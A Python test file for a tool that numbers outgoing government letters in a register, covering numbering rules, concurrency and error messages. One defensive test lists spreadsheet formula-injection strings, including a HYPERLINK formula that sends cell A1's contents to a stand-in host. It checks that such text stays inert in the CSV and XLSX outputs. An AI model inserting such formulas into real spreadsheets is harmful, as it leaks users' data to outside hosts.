"""Letter numbers from the project's register (buku agenda surat keluar)."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
import subprocess
import sys
from datetime import date

from click.testing import CliRunner

from rapatgen.cli import main
from rapatgen.build.register import REGISTER_NAME, Register
from tests.conftest import ROOT, replace_in
from tests.readback import docx_text, flat

SERIES_FILE = "agendas/2025-02-sosialisasi-dtsen-buleleng.yaml"
SERIES = "sosialisasi-dtsen-buleleng-2025"


def _build(root, *args):
    return CliRunner().invoke(main, ["build", "--per", "2025-03-01", "--only", "undangan", "--format", "docx",
                                     *args, "--proyek", str(root)])


def _numbers(root, meeting) -> dict[str, str]:
    out = {}
    for path in sorted((root / "outputs" / meeting).glob("undangan-*.docx")):
        out[path.stem] = re.search(r"Nomor:(\S+?)(Sifat|$)", flat(docx_text(path))).group(1)
    return out


def _without_urut(root):
    for urut in (57, 58, 61, 62):
        replace_in(root / SERIES_FILE, f"    urut: {urut}\n", "")


def test_series_sessions_get_distinct_numbers_that_stay(project):
    _without_urut(project)
    r = _build(project, SERIES)
    assert r.exit_code == 0, r.output
    first = _numbers(project, SERIES)
    assert len(first) == 4 and len(set(first.values())) == 4  # four letters, four numbers
    assert set(first.values()) == {f"400.9.14/{n}/Bappeda" for n in (1, 2, 3, 4)}
    assert _build(project, SERIES, "--paksa-ulang").exit_code == 0
    assert _numbers(project, SERIES) == first  # a letter keeps its number on every build
    r = CliRunner().invoke(main, ["nomor", "--xlsx", str(project / "agenda.xlsx"), "--proyek", str(project)])
    assert r.exit_code == 0
    for number in first.values():
        assert number in r.output
    assert "surat undangan sesi 4" in r.output and "4 nomor surat." in r.output

    from openpyxl import load_workbook

    sheet = load_workbook(project / "agenda.xlsx").active
    assert [c.value for c in sheet[1]][:2] == ["No. Urut", "Nomor Surat"]
    assert sorted(row[1].value for row in sheet.iter_rows(min_row=2)) == sorted(first.values())


def test_assigned_numbers_follow_hand_typed_ones_and_are_never_reused(project):
    replace_in(project / SERIES_FILE, "    urut: 62\n", "")  # sessions 1-3 keep 57, 58, 61
    assert _build(project, SERIES).exit_code == 0
    numbers = _numbers(project, SERIES)
    assert numbers[f"undangan-{SERIES}-sesi-04-sawan"] == "400.9.14/62/Bappeda"  # after the highest of 2025: 61
    # the meeting is deleted; a new letter of the same year never gets its numbers again
    text = (project / SERIES_FILE).read_text(encoding="utf-8")
    (project / SERIES_FILE).unlink()
    (project / "agendas" / "baru.yaml").write_text(text.replace(f"id: {SERIES}", "id: sosialisasi-baru")
                                                   .replace("    urut: 57\n", "").replace("    urut: 58\n", "")
                                                   .replace("    urut: 61\n", ""), encoding="utf-8")
    assert _build(project, "sosialisasi-baru").exit_code == 0
    new = set(_numbers(project, "sosialisasi-baru").values())
    assert new == {f"400.9.14/{n}/Bappeda" for n in (63, 64, 65, 66)}


def test_a_hand_typed_number_already_in_the_register_is_refused(project):
    assert _build(project, SERIES).exit_code == 0  # records 57, 58, 61, 62 of 2025
    text = (project / SERIES_FILE).read_text(encoding="utf-8")
    (project / "agendas" / "salinan.yaml").write_text(text.replace(f"id: {SERIES}", "id: salinan")
                                                      .replace("    urut: 57\n", "    nomor: 400.9.14/58/Bappeda\n")
                                                      .replace("    urut: 58\n", "    urut: 70\n")
                                                      .replace("    urut: 61\n", "    urut: 71\n")
                                                      .replace("    urut: 62\n", "    urut: 72\n"), encoding="utf-8")
    r = _build(project, "salinan")
    assert r.exit_code == 1 and "Traceback" not in r.output
    assert ("nomor surat '400.9.14/58/Bappeda' untuk surat undangan sesi 1 rapat salinan sudah tercatat di "
            f"{REGISTER_NAME} untuk surat undangan sesi 2 rapat {SERIES}") in r.output
    assert not (project / "outputs" / "salinan").exists()
    assert "salinan" not in (project / REGISTER_NAME).read_text(encoding="utf-8")  # nothing half-recorded


def test_dry_run_gives_no_number(project):
    _without_urut(project)
    r = _build(project, SERIES, "--dry-run")
    assert r.exit_code == 0 and not (project / REGISTER_NAME).exists()


WORKER = """
import sys
from datetime import date
from rapatgen.build.register import Register
root, tag = sys.argv[1], sys.argv[2]
for i in range(25):
    with Register.editing(root) as reg:
        reg.assign(f"{tag}-{i}/undangan", date(2025, 3, 1), "Undangan", f"{tag}-{i}", "surat undangan",
                   lambda urut: f"400.9.14/{urut}/Bappeda")
"""


def test_two_processes_never_get_the_same_number(tmp_path):
    procs = [subprocess.Popen([sys.executable, "-c", WORKER, str(tmp_path), tag], cwd=ROOT) for tag in ("a", "b")]
    assert [p.wait(timeout=120) for p in procs] == [0, 0]
    entries = Register.load(tmp_path).entries.values()
    assert len(entries) == 50
    assert sorted(e.urut for e in entries) == list(range(1, 51))
    assert len({e.nomor for e in entries}) == 50


def test_changing_an_assigned_number_keeps_the_old_one_given(tmp_path):
    with Register.editing(tmp_path) as reg:
        first = reg.assign("x/undangan", date(2025, 1, 2), "Undangan", "x", "surat undangan", lambda u: f"N/{u}")
    with Register.editing(tmp_path) as reg:  # the secretariat now types a number for that letter
        reg.record("x/undangan", date(2025, 1, 2), "Undangan", "x", "surat undangan", "N/900", 900)
        again = reg.assign("y/undangan", date(2025, 1, 3), "Undangan", "y", "surat undangan", lambda u: f"N/{u}")
    assert first == "N/1" and again == "N/901"
    assert {e.nomor for e in Register.load(tmp_path).entries.values()} == {"N/1", "N/900", "N/901"}


# --- issue 11: text from YAML in the register stays text; an unwritable register is a message ------------

FORMULAS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+62 812 0000", "-5 persen", "@dinsos_bll",
            "'=sudah berkutip"]


def test_register_text_from_yaml_never_becomes_a_formula(project):
    import csv
    import io

    import openpyxl

    replace_in(project / "agendas/2023-12-14-rakor-tkpk-buleleng.yaml", "hal: Undangan Rapat Koordinasi TKPK",
               f"hal: '{FORMULAS[0]}'")
    _without_urut(project)
    replace_in(project / SERIES_FILE, "hal: Undangan Sosialisasi DTSEN", f'hal: "{FORMULAS[1]}"')
    r = _build(project)
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO((project / REGISTER_NAME).read_text(encoding="utf-8"))))
    hal = {row["rapat"]: row["hal"] for row in rows}
    assert hal["rakor-buleleng-2023-12-14"] == "'" + FORMULAS[0]
    assert hal[SERIES] == "'" + FORMULAS[1]
    for row in rows:  # no field of the CSV starts like a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    # read back as written in YAML: the same numbers again, the file unchanged by a second build
    before = (project / REGISTER_NAME).read_bytes()
    assert Register.load(project).entries["rakor-buleleng-2023-12-14/undangan"].hal == FORMULAS[0]
    assert _build(project, "--paksa-ulang").exit_code == 0
    assert (project / REGISTER_NAME).read_bytes() == before
    # the XLSX of `rapatgen nomor`: the cell holds the text itself, as text
    r = CliRunner().invoke(main, ["nomor", "--xlsx", str(project / "buku.xlsx"), "--proyek", str(project)])
    assert r.exit_code == 0, r.output
    cells = [c for row in openpyxl.load_workbook(project / "buku.xlsx").active.iter_rows() for c in row]
    shown = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in FORMULAS[:2]:
        assert shown[text].data_type == "s", text
    with zipfile.ZipFile(project / "buku.xlsx") as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_csv_protection_round_trips():
    from rapatgen.text.cells import csv_safe, csv_unsafe

    for text in FORMULAS + ["biasa", "'kutip", "''=dua", "", "=", "'", "\t=x"]:
        assert csv_unsafe(csv_safe(text)) == text, text
        assert not csv_safe(text).startswith(("=", "+", "-", "@", "\t", "\r")), text


def test_unwritable_register_or_lock_is_a_message_not_a_traceback(project, monkeypatch):
    import errno

    import filelock

    import rapatgen.files.atomic as w

    _without_urut(project)
    lock = project / ".rapatgen" / "kunci" / "buku-agenda-surat-keluar.lock"  # under .rapatgen/ (issue 17.10)
    lock.mkdir(parents=True)  # a folder where the lock file belongs
    r = _build(project, SERIES)
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
    assert "buku-agenda-surat-keluar.lock adalah sebuah folder" in r.output, r.output
    lock.rmdir()

    real_acquire = filelock.FileLock.acquire

    def denied(self, *args, **kwargs):
        if self.lock_file.endswith("buku-agenda-surat-keluar.lock"):
            raise PermissionError(errno.EACCES, "Permission denied")
        return real_acquire(self, *args, **kwargs)

    monkeypatch.setattr(filelock.FileLock, "acquire", denied)
    r = _build(project, SERIES)
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
    assert "buku-agenda-surat-keluar.lock tidak dapat ditulis: tidak ada izin menulis" in r.output, r.output
    monkeypatch.undo()

    real_mkstemp = w.tempfile.mkstemp

    def read_only_project(*args, **kwargs):
        if Path(kwargs.get("dir", "")) == project:
            raise PermissionError(errno.EACCES, "Permission denied")
        return real_mkstemp(*args, **kwargs)

    monkeypatch.setattr(w.tempfile, "mkstemp", read_only_project)
    r = _build(project, SERIES)
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
    assert f"{REGISTER_NAME} tidak dapat ditulis: tidak ada izin menulis" in r.output, r.output
    assert not (project / REGISTER_NAME).exists() and not list(project.glob(f".{REGISTER_NAME}*"))
    monkeypatch.undo()

    (project / REGISTER_NAME).mkdir()  # a folder where the register belongs
    for args in (["build", "--per", "2025-03-01", "--only", "undangan", "--format", "docx", SERIES], ["nomor"]):
        r = CliRunner().invoke(main, [*args, "--proyek", str(project)])
        assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
        assert f"{REGISTER_NAME} adalah sebuah folder" in r.output, r.output


def test_a_project_starts_at_the_office_agenda_number_of_that_year(project):
    """`penomoran.mulai: {2025: 301}`: the office's agenda book had reached 300 before the project
    started; the first number rapatgen gives in 2025 is 301, numbers of other years start at 1."""
    _without_urut(project)
    replace_in(project / "rapatgen.yaml", "penomoran:\n", "penomoran:\n  mulai: {2025: 301, 2024: 12}\n")
    r = _build(project, SERIES)
    assert r.exit_code == 0, r.output
    assert set(_numbers(project, SERIES).values()) == {f"400.9.14/{n}/Bappeda" for n in (301, 302, 303, 304)}
    r = CliRunner().invoke(main, ["nomor", "--tahun", "2025", "--proyek", str(project)])
    assert "400.9.14/301/Bappeda" in r.output and "400.9.14/1/Bappeda" not in r.output


def test_a_wrong_starting_number_is_a_positioned_message(project):
    replace_in(project / "rapatgen.yaml", "penomoran:\n", "penomoran:\n  mulai: {2025: 0}\n")
    r = CliRunner().invoke(main, ["check", "--proyek", str(project)])
    assert r.exit_code == 1 and "rapatgen.yaml:39:" in r.output and "terlalu kecil" in r.output, r.output
